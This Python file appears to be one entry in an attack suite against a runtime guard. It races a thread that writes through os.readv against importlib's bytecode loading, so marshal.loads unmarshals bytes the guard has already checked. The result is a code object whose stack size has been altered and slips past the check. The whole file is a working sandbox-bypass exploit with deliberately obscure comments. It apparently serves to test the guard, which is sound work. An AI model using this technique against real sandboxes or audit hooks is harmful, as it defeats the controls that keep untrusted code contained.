# class: machine_code
# rule: native_code
# success: importlib's own function unmarshals other bytes: it calls what stands for marshal.loads
#   with memory of the program's, into which the kernel writes while the guard compares a copy
# proof: word
# needs: python>=3.11
# open: the event shows a copy of the bytes, and not where they lie; between the two, a system call
#   of another thread needs no lock of the interpreter's. To read each module twice would show what
#   came of it, and cost as much as the import.
import functools
import glob
import importlib._bootstrap_external as external
import marshal
import os
import sys
import sysconfig
import threading
import time

from attack import attempt, patience

FOLDER = sysconfig.get_path("stdlib")
STACK_SIZE = 13  # where it lies in a marshalled code object


class Instead:
    """Gives the module back before what it stands for is called."""

    def __init__(self, memory):
        self.calls = map(marshal.loads, [memory])

    @property
    def loads(self):
        external.marshal = marshal
        return functools.partial(next, self.calls)


def largest():
    ending = "." + sys.implementation.cache_tag + ".pyc"
    found = glob.glob(FOLDER + "/**/*" + ending, recursive=True)
    return max((path for path in found if "/test" not in path), key=os.path.getsize)


@attempt
def change():
    path = largest()
    source = external.source_from_cache(path)
    with open(path, "rb") as opened:
        honest = opened.read()[16:]
    came, go = os.pipe()
    end = time.monotonic() + patience(20)
    while True:
        memory = bytearray(honest)
        part = memoryview(memory)[STACK_SIZE : STACK_SIZE + 4]
        reader = threading.Thread(target=os.readv, args=(came, [part]))
        reader.start()
        time.sleep(0.002)
        external.marshal = Instead(memory)
        os.write(go, b"\x63\x02\0\0")
        try:
            changed = external._compile_bytecode(honest, "it", path, source).co_stacksize == 0x263
        except PermissionError:
            changed = False  # too early
        finally:
            external.marshal = marshal
            reader.join()
        if changed or time.monotonic() > end:
            return changed
